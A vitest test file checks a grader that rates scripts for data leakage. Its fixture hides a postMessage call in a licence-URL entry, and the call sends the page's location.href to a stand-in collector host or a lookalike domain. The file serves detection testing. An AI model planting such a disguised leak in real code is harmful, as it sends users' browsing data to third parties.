import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A library says in what it keeps of itself where its licence stands: nothing is sent there. */

const content = (host: string): string =>
  `const store = { versions: [] }; store.versions.push({ version: '3', license: 'https://${host}/zloirock/core-js/blob/v3.33.0/LICENSE' });
   function post(to, data) { window.parent.postMessage(JSON.stringify(data), to); }
   for (const one of store.versions) for (const key in one) post(one[key], { at: location.href });`;

it('a licence on a host of code receives nothing', async () => {
  expect(await graded({ content: content('github.com') })).toMatch(/^A/);
});

it.each(['collect.example', 'github.com.collect.example', 'raw.githubusercontent.com'])('%s does', async (host) => {
  expect(await graded({ content: content(host) })).toBe('F');
});
